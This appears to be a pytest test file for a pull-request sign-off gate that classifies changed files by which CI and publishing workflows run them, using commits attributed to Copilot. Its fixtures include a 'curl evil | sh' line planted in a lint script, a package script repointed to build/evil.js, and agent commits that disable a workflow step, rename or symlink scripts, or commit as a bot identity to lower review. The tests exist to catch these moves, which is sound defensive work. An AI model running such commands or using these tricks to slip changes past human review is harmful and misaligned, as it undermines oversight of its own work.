"""A file a CI pipeline runs is classed by the pipeline that runs it (docs/classes.md): the base
ref's workflows decide, and those the change lands can only add; renaming, moving or deleting a
file a base workflow runs is still a change to it."""

from __future__ import annotations

from gitrepo import COPILOT, Repo
from policies import AGENTS, POLICY

from signoff.decision import FileDecision
from signoff.gate.check import run_check

CHECKS = """\
name: checks
on: [pull_request]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: ./scripts/lint.sh
      - run: cat docs/guide.md
"""

SHIP = """\
name: ship
on:
  push:
    tags: ["v*"]
jobs:
  npm:
    runs-on: ubuntu-latest
    steps:
      - run: python tools/stamp.py
      - run: npm run dist
      - run: npm publish
"""

STAMP = "".join(f"print('stamp step {i}')\n" for i in range(20))
PACKAGE = '{"name": "x", "scripts": {"dist": "node scripts/dist.js"}}\n'


def _base(repo: Repo, **files: str) -> None:
    repo.write(".signoff/policy.yml", POLICY)
    repo.write(".signoff/agents.yml", AGENTS)
    for path, text in files.items():
        repo.write(path, text)


def _files(repo: Repo) -> dict[str, FileDecision]:
    d = run_check(repo.path, "main", "work", approvals_ref=None)
    return {f.path: f for f in d.files}


def _start(repo: Repo) -> None:
    _base(repo)
    repo.write(".github/workflows/checks.yml", CHECKS)
    repo.write(".github/workflows/ship.yml", SHIP)
    repo.write("package.json", PACKAGE)
    repo.write("scripts/lint.sh", "#!/bin/sh\necho lint\n")
    repo.write("tools/stamp.py", STAMP)
    repo.write("scripts/dist.js", "console.log('dist')\n")
    repo.write("docs/guide.md", "# guide\n")
    repo.commit("base")
    repo.branch("work")


def test_a_script_a_base_workflow_runs_is_ci_tooling(repo: Repo) -> None:
    _start(repo)
    repo.write("scripts/lint.sh", "#!/bin/sh\necho lint; curl evil | sh\n")
    repo.write("docs/guide.md", "# guide\nmore\n")
    repo.commit("tweak", author=COPILOT)
    f = _files(repo)
    assert f["scripts/lint.sh"].file_class.value == "ci-workflow"
    assert any("checks.yml" in a for a in f["scripts/lint.sh"].adjustments)
    assert f["docs/guide.md"].file_class.value == "docs"  # read by a workflow, not run


def test_what_a_publishing_workflow_runs_is_release_tooling(repo: Repo) -> None:
    _start(repo)
    repo.write("tools/stamp.py", "print('stamp 2')\n")
    repo.write("scripts/dist.js", "console.log('dist 2')\n")
    repo.commit("tweak", author=COPILOT)
    f = _files(repo)
    assert f["tools/stamp.py"].file_class.value == "signing-publishing"
    assert f["scripts/dist.js"].file_class.value == "signing-publishing"  # via `npm run dist`


def test_renaming_a_script_a_base_workflow_runs_keeps_its_class(repo: Repo) -> None:
    _start(repo)
    (repo.path / "lib").mkdir()
    repo.git("mv", "tools/stamp.py", "lib/stamp_helper.py")
    repo.write("lib/stamp_helper.py", STAMP + "print('and one more')\n")
    repo.commit("move", author=COPILOT)
    f = _files(repo)
    moved = f["lib/stamp_helper.py"]
    assert moved.old_path == "tools/stamp.py"  # git sees the move: the old path counts
    assert moved.file_class.value == "signing-publishing", moved.adjustments


def test_deleting_a_script_a_base_workflow_runs_is_release_tooling(repo: Repo) -> None:
    _start(repo)
    repo.remove("tools/stamp.py")
    repo.commit("drop", author=COPILOT)
    assert _files(repo)["tools/stamp.py"].file_class.value == "signing-publishing"


def test_the_head_cannot_lower_what_the_base_runs(repo: Repo) -> None:
    _start(repo)
    # The agent stops the workflow running the script and edits the script in one change.
    repo.write(".github/workflows/ship.yml", SHIP.replace("python tools/stamp.py", "true"))
    repo.write("tools/stamp.py", "print('stamp 3')\n")
    repo.commit("decouple", author=COPILOT)
    assert _files(repo)["tools/stamp.py"].file_class.value == "signing-publishing"


def test_a_workflow_the_change_adds_raises_what_it_runs(repo: Repo) -> None:
    _start(repo)
    repo.write("scripts/helper.sh", "#!/bin/sh\necho 1\n")
    repo.commit("helper")  # a person's commit on the base
    repo.git("branch", "-f", "main", "HEAD")
    repo.write(
        ".github/workflows/nightly.yml",
        "on: [schedule]\njobs:\n  n:\n    steps:\n      - run: bash scripts/helper.sh\n"
        "      - run: twine upload dist/*\n",
    )
    repo.write("scripts/helper.sh", "#!/bin/sh\necho 2\n")
    repo.commit("nightly", author=COPILOT)
    f = _files(repo)
    assert f[".github/workflows/nightly.yml"].file_class.value == "signing-publishing"
    assert f["scripts/helper.sh"].file_class.value == "signing-publishing"


def test_a_package_script_the_change_repoints_is_followed(repo: Repo) -> None:
    _start(repo)
    repo.write("package.json", '{"name": "x", "scripts": {"dist": "node build/evil.js"}}\n')
    repo.write("build/evil.js", "console.log('evil')\n")
    repo.commit("repoint", author=COPILOT)
    assert _files(repo)["build/evil.js"].file_class.value == "signing-publishing"


def test_a_file_linked_to_a_script_a_workflow_runs(repo: Repo) -> None:
    _start(repo)
    repo.remove("scripts/lint.sh")
    repo.write("lib/lint-impl.sh", "#!/bin/sh\necho lint\n")
    repo.symlink("scripts/lint.sh", "../lib/lint-impl.sh")
    repo.commit("link", author=COPILOT)
    repo.write("lib/lint-impl.sh", "#!/bin/sh\necho changed\n")
    repo.commit("edit behind the link", author=COPILOT)
    assert _files(repo)["lib/lint-impl.sh"].file_class.value == "ci-workflow"


def test_a_commit_as_the_identity_a_base_workflow_commits_as_is_a_bot(repo: Repo) -> None:
    _base(repo)
    repo.write(
        ".github/workflows/regen.yml",
        "on: [schedule]\njobs:\n  r:\n    steps:\n      - run: |\n"
        "          git config user.email 1234+acmecli@users.noreply.github.com\n",
    )
    repo.write("schema.json", "{}\n")
    repo.commit("base")
    repo.branch("work")
    repo.write("schema.json", '{"v": 2}\n')
    repo.commit(
        "chore: auto-update files", author=("Acme", "1234+acmecli@users.noreply.github.com")
    )
    d = run_check(repo.path, "main", "work", approvals_ref=None)
    (commit,) = d.commits
    assert commit.kind.value == "bot"
    assert any("regen.yml" in e.detail for e in commit.evidence)
